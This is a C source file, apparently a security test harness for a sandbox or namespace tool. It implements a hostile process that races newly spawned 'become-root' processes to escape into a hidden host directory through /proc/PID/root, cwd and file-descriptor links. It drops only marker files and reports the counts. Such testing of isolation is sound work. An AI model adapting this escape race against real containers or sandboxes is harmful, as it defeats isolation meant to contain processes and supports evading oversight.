/* A hostile process inside a session: it races every new process for a way out.
 *
 * Usage: proc-racer HOST_DIR READY REPORT
 *
 * It watches the pids the kernel hands out (/proc/sys/kernel/ns_last_pid) and tries, over and
 * over for each new process until it is neither a shell nor become-root, to create a file in
 * HOST_DIR (a directory of the host that the session cannot see) through /proc/PID/root, and
 * a file in the directory /proc/PID/cwd names; now and then also in the directories its
 * descriptors 3 to 9 name. A file made is named after
 * the door it came through (escaped-root-PID, escaped-cwd-PID, escaped-fd-N-PID); where it
 * landed tells an escape from a file made inside. It creates READY once it races and, on
 * SIGTERM, writes REPORT ("tries T joiners J made M": open attempts, become-root processes it
 * found alive, files made) and exits. It is C because the window it races for was a few
 * microseconds wide: a loop in a scripting language saw none in 300 joins.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define WATCH_MAX 64

static volatile sig_atomic_t ending;
static const char *host;
static long tries, made, joiners;

/* The new processes being raced: a pid, and whether it was counted as a joiner. */
static struct {
    int pid;
    int counted;
} watch[WATCH_MAX];
static int watching;

static void on_sigterm(int sig) {
    (void)sig;
    ending = 1;
}

static void attempt(int pid, const char *door, const char *in, const char *name) {
    char path[4096];
    snprintf(path, sizeof path, "/proc/%d/%s%s/escaped-%s-%d", pid, door, in, name, pid);
    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC | O_NOFOLLOW, 0644);
    tries++;
    if (fd >= 0) {
        close(fd);
        made++;
    }
}

/* The command name of `pid` ("" when it is gone). */
static void comm_of(int pid, char *comm, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    comm[0] = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, comm, size - 1);
    close(fd);
    comm[n > 0 ? n : 0] = 0;
}

/* Keep racing watch[i] while it may still become or be a joiner: a shell's child before it
 * executes become-root, or become-root before it executes COMMAND. 0 when it is done with. */
static int still_racing(int i) {
    char comm[32];
    comm_of(watch[i].pid, comm, sizeof comm);
    if (strcmp(comm, "become-root\n") == 0) {
        if (!watch[i].counted)
            joiners++;
        watch[i].counted = 1;
        return 1;
    }
    return strcmp(comm, "sh\n") == 0;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: proc-racer HOST_DIR READY REPORT\n");
        return 2;
    }
    host = argv[1];
    signal(SIGTERM, on_sigterm);
    int last_pid = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (last_pid < 0) {
        perror("ns_last_pid");
        return 1;
    }
    int next = 0;
    close(open(argv[2], O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    for (unsigned long round = 0; !ending; round++) {
        char buf[32];
        ssize_t n = pread(last_pid, buf, sizeof buf - 1, 0);
        if (n <= 0)
            break;
        buf[n] = 0;
        int last = atoi(buf);
        /* Every process made since the last round (the newest, after a burst). */
        if (next == 0 || last - next >= WATCH_MAX)
            next = last;
        for (; next <= last; next++)
            if (next != getpid() && watching < WATCH_MAX) {
                watch[watching].pid = next;
                watch[watching++].counted = 0;
            }
        for (int i = 0; i < watching; i++) {
            int pid = watch[i].pid;
            attempt(pid, "root", host, "root");
            attempt(pid, "cwd", "", "cwd");
            if (round % 8 != 0)
                continue;
            for (int fd = 3; fd <= 9; fd++) {
                char door[16], name[16];
                snprintf(door, sizeof door, "fd/%d", fd);
                snprintf(name, sizeof name, "fd-%d", fd);
                attempt(pid, door, "", name);
            }
            if (!still_racing(i))
                watch[i--] = watch[--watching];
        }
    }
    FILE *report = fopen(argv[3], "w");
    if (!report)
        return 1;
    fprintf(report, "tries %ld joiners %ld made %ld\n", tries, joiners, made);
    return fclose(report) == 0 ? 0 : 1;
}
